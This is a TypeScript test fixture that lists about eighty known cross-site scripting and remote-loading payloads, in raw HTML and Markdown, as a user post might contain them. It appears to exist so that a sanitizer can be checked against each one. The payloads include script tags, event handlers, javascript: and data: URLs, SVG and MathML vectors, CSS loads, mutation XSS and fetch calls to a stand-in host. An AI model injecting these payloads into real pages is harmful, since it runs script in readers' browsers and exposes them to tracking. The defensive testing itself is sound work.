export const evilOrigin = 'http://xss.invalid';
/** The script every payload tries to run. */
export const xssScript = 'window.__xss=1;__xssHit()';
const base64Html = Buffer.from('<script>parent.__xss=1;parent.__xssHit()</script>').toString('base64');

/**
 * Known XSS and resource-loading payloads, as a post would hold them (raw HTML
 * or Markdown). Each, if it ever ran or loaded, would set `window.__xss`, call
 * the `__xssHit` binding, open a dialog, navigate, or request `xss.invalid`.
 */
export const xssPayloads: readonly string[] = [
  // Script elements.
  `<script>${xssScript}</script>`,
  `<script src="${evilOrigin}/script.js"></script>`,
  `<SCRIPT>${xssScript}</SCRIPT>`,
  `<scr<script>ipt>${xssScript}</scr</script>ipt>`,
  `<img """><script>${xssScript}</script>">`,
  // Event handlers on many elements.
  `<img src=x onerror="${xssScript}">`,
  '<img src="x" onerror="alert(1)">',
  `<body onload="${xssScript}">`,
  `<details open ontoggle="${xssScript}"><summary>details</summary></details>`,
  `<div onmouseover="${xssScript}">hover me</div>`,
  `<a onclick="${xssScript}">click me</a>`,
  `<input autofocus onfocus="${xssScript}">`,
  `<select autofocus onfocus="${xssScript}"></select>`,
  `<textarea autofocus onfocus="${xssScript}"></textarea>`,
  `<video><source onerror="${xssScript}"></video>`,
  `<audio src=x onerror="${xssScript}"></audio>`,
  `<marquee onstart="${xssScript}">marquee</marquee>`,
  `<p contenteditable autofocus onfocus="${xssScript}">editable</p>`,
  '<img src=x:alert(1) onerror=eval(src)>',
  `<img src=x onerror="fetch('${evilOrigin}/fetch')">`,
  `<div tabindex=0 autofocus onfocusin="${xssScript}">focus me</div>`,
  // javascript:, vbscript: and data: URLs in href, src, action, formaction, xlink:href.
  `<a href="javascript:${xssScript}">javascript link</a>`,
  `<a href="&#106;avascript:${xssScript}">entity link</a>`,
  `<a href="java&#x09;script:${xssScript}">tab link</a>`,
  `<a href=" javascript:${xssScript}">space link</a>`,
  '<a href="vbscript:msgbox(1)">vbscript link</a>',
  `<a href="data:text/html;base64,${base64Html}">data link</a>`,
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  `<iframe src="data:text/html;base64,${base64Html}"></iframe>`,
  `<form action="javascript:${xssScript}"><input type=submit value=go></form>`,
  `<form><button formaction="javascript:${xssScript}">go</button></form>`,
  `<isindex action="javascript:${xssScript}" type=image>`,
  `<object data="javascript:${xssScript}"></object>`,
  `<embed src="javascript:${xssScript}">`,
  '[markdown javascript link](javascript:window.__xss=1)',
  '[markdown vbscript link](vbscript:msgbox)',
  `[markdown data link](data:text/html;base64,${base64Html})`,
  '![markdown image](javascript:window.__xss=1)',
  '<javascript:window.__xss=1>',
  // SVG and MathML.
  `<svg onload="${xssScript}"></svg>`,
  `<svg><script>${xssScript}</script></svg>`,
  `<svg><animate onbegin="${xssScript}" attributeName=x dur=1s></animate></svg>`,
  `<svg><a xlink:href="javascript:${xssScript}"><text x=20 y=20>svg link</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${xssScript}"></set></svg>`,
  `<svg><image href="${evilOrigin}/svg-image.png"></image></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
  `<math href="javascript:${xssScript}">math link</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${xssScript}">maction</maction></math>`,
  // Frames, objects, embeds.
  '<iframe srcdoc="<script>parent.__xss=1;parent.__xssHit()</script>"></iframe>',
  `<iframe src="${evilOrigin}/frame.html"></iframe>`,
  `<object data="${evilOrigin}/object.swf" type="application/x-shockwave-flash"></object>`,
  `<embed src="${evilOrigin}/embed.swf">`,
  `<frameset onload="${xssScript}"><frame src="${evilOrigin}/frame"></frameset>`,
  // Meta, base, link.
  `<meta http-equiv="refresh" content="0;url=${evilOrigin}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${xssScript}">`,
  `<base href="${evilOrigin}/">`,
  `<link rel="stylesheet" href="${evilOrigin}/style.css">`,
  `<link rel="import" href="${evilOrigin}/import.html">`,
  // CSS that loads or runs.
  `<style>@import '${evilOrigin}/import.css';</style>`,
  `<style>body { background: url(${evilOrigin}/style-bg.png) }</style>`,
  `<div style="background-image: url(${evilOrigin}/inline-bg.png)">styled</div>`,
  `<div style="background: u\\72 l(${evilOrigin}/escaped-bg.png)">escaped style</div>`,
  `<div style="background: image-set('${evilOrigin}/image-set.png' 1x)">image set</div>`,
  '<div style="width: expression(window.__xss=1)">expression</div>',
  `<div style="behavior: url(${evilOrigin}/behavior.htc)">behavior</div>`,
  `<div style="-moz-binding: url(${evilOrigin}/binding.xml#x)">binding</div>`,
  // Remote loads: not script, but they would tell a server the post was opened.
  `<img src="${evilOrigin}/beacon.png">`,
  `<img srcset="${evilOrigin}/srcset.png 2x">`,
  `<video poster="${evilOrigin}/poster.png"></video>`,
  `<table background="${evilOrigin}/table-bg.png"><tr><td>cell</td></tr></table>`,
  `<input type="image" src="${evilOrigin}/input.png">`,
  `![remote markdown image](${evilOrigin}/markdown.png)`,
  // Templates, noscript and mutation XSS.
  `<template><img src=x onerror="${xssScript}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${xssScript}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${xssScript}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${xssScript}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${xssScript}>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${xssScript}>">`,
  `<svg><style><img src=x onerror=${xssScript}></style></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${xssScript}>"></xmp>`,
  '<a id="inkpost">clobber</a><form name="getElementById"></form>',
];
